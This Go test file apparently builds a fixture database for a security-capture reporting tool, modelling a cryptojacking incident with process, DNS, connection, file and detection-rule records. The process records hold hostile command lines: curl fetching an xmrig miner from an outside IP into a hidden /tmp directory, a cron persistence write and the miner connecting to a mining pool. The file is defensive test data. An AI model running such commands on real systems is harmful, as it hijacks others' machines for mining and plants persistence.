@@ -1,0 +1,74 @@
+package reports
+
+import (
+	"path/filepath"
+	"testing"
+	"time"
+)
+
+// t0 is the fixture's capture start.
+var t0 = time.Date(2026, 11, 20, 10, 0, 0, 123456789, time.UTC)
+
+func at(sec int) time.Time { return t0.Add(time.Duration(sec) * time.Second) }
+
+func atp(sec int) *time.Time { t := at(sec); return &t }
+
+// loadMiner adds a small cryptojacking story to s for capture id on host: bash (pid 100) under
+// systemd fetches /tmp/.x/xmrig with curl (pid 101), writes a cron entry, runs the miner
+// (pid 102), which resolves pool.supportxmr.com and connects to it on port 3333.
+func loadMiner(t testing.TB, s *Store, id, host string, day time.Duration) {
+	t.Helper()
+	d := func(sec int) time.Time { return at(sec).Add(day) }
+	dp := func(sec int) *time.Time { x := d(sec); return &x }
+	must := func(err error) {
+		t.Helper()
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	must(s.AddCapture(&Capture{ID: id, Host: host, Kernel: "6.8.0", BootID: "b-" + id, Source: "/cap/" + id,
+		SakerVersion: "0.1.0", Start: d(0), Stop: d(600), Events: 6, Verified: true, ManifestJSON: `{"version":1}`}))
+	procs := []Process{
+		{Key: 1, PID: 1, Exe: "/usr/lib/systemd/systemd", Cmdline: "/sbin/init", Args: []string{"/sbin/init"}, User: "root"},
+		{Key: 2, ParentKey: 1, PID: 100, PPID: 1, Start: dp(1), Exe: "/usr/bin/bash", Cmdline: "bash -i", Args: []string{"bash", "-i"}, User: "www-data", UID: 33, Ancestry: "systemd"},
+		{Key: 3, ParentKey: 2, PID: 101, PPID: 100, Start: dp(2), Exit: dp(4), Exe: "/usr/bin/curl", Cmdline: "curl -o /tmp/.x/xmrig http://203.0.113.9/x", Args: []string{"curl", "-o", "/tmp/.x/xmrig", "http://203.0.113.9/x"}, User: "www-data", UID: 33, Ancestry: "bash<systemd"},
+		{Key: 4, ParentKey: 2, PID: 102, PPID: 100, Start: dp(10), Exe: "/tmp/.x/xmrig", Cmdline: "/tmp/.x/xmrig -o pool.supportxmr.com:3333", Args: []string{"/tmp/.x/xmrig", "-o", "pool.supportxmr.com:3333"}, User: "www-data", UID: 33, Ancestry: "bash<systemd"},
+	}
+	for i := range procs {
+		procs[i].CaptureID = id
+		must(s.AddProcess(&procs[i]))
+	}
+	for n := 1; n <= 6; n++ {
+		must(s.AddEvent(&Event{CaptureID: id, Num: uint64(n), Time: d(n), Kind: "openat", PID: 101, TID: 101, ProcessKey: 3, FD: 3, Path: "/tmp/.x/xmrig"}))
+	}
+	must(s.AddDNS(&DNS{CaptureID: id, Time: d(11), QName: "pool.supportxmr.com", QType: "A", RCode: "NOERROR",
+		Answers: []string{"198.51.100.7"}, TTL: 60, Resolver: "127.0.0.53", PID: 102, ProcessKey: 4}))
+	must(s.AddConnection(&Connection{CaptureID: id, ID: 1, ProcessKey: 4, PID: 102, Proto: "tcp", LocalIP: "10.0.0.5", LocalPort: 40000,
+		RemoteIP: "198.51.100.7", RemotePort: 3333, Names: []string{"pool.supportxmr.com"}, DNSAnswer: "pool.supportxmr.com",
+		FirstTime: d(12), LastTime: d(600), BytesSent: 100, BytesRecv: 200}))
+	must(s.AddConnection(&Connection{CaptureID: id, ID: 2, ProcessKey: 3, PID: 101, Proto: "tcp", LocalIP: "10.0.0.5", LocalPort: 40001,
+		RemoteIP: "203.0.113.9", RemotePort: 80, FirstTime: d(2), LastTime: d(4), BytesSent: 10, BytesRecv: 5000}))
+	must(s.AddFile(&File{CaptureID: id, Time: d(3), Action: "create", Path: "/tmp/.x/xmrig", Mode: 0o755, PID: 101, ProcessKey: 3, EventNum: 3}))
+	must(s.AddFile(&File{CaptureID: id, Time: d(5), Action: "write", Path: "/etc/cron.d/x", Mode: 0o644, PID: 100, ProcessKey: 2, EventNum: 5}))
+	must(s.AddFile(&File{CaptureID: id, Time: d(6), Action: "write", Path: "/home/u/notes.txt", PID: 100, ProcessKey: 2}))
+	must(s.AddFinding(&Finding{CaptureID: id, ID: 1, Rule: "Mining pool connection", Priority: "Critical", Source: "syscall",
+		Time: d(12), Output: "xmrig connected to pool.supportxmr.com", OutputFields: map[string]any{"proc.pid": 102},
+		Tags: []string{"mitre_impact"}, EventNum: 6, PID: 102, ProcessKey: 4, ConnectionID: 1}))
+	must(s.AddRule(&Rule{CaptureID: id, Name: "Mining pool connection", Priority: "Critical", Source: "syscall",
+		Condition: "evt.type = connect", Output: "%proc.name connected", Tags: []string{"mitre_impact"}, Enabled: true}))
+}
+
+// minerDB writes the fixture database for one capture and returns its path.
+func minerDB(t testing.TB) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "miner.duckdb")
+	s, err := Create(path, CreateOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	loadMiner(t, s, "c1", "web1", 0)
+	if err := s.Commit(); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
